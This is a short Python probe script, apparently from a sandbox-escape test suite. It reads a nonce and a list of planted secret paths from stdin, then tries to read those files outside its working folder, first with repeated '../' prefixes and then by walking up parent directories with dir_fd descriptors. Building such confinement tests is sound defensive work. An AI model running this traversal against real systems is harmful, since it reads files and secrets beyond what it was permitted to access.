"""Tries: to climb out of the working folder by relative names and folder descriptors.
Kind: reading
Seen: a planted secret comes out.
Control: shown
"""

import json
import os
import sys

world = json.loads(sys.stdin.readline())
nonce = world["nonce"]

print("ATTEMPTED", nonce, flush=True)
wanted = [path.lstrip("/") for path in world["secret_files"].values()]
for depth in range(1, 12):
    for path in wanted:
        try:
            with open("../" * depth + path) as file:
                print(file.read())
        except OSError:
            continue
here = os.open(".", os.O_RDONLY)
for _ in range(12):
    here = os.open("..", os.O_RDONLY, dir_fd=here)
    for path in wanted:
        try:
            print(os.read(os.open(path, os.O_RDONLY, dir_fd=here), 1000))
        except OSError:
            continue
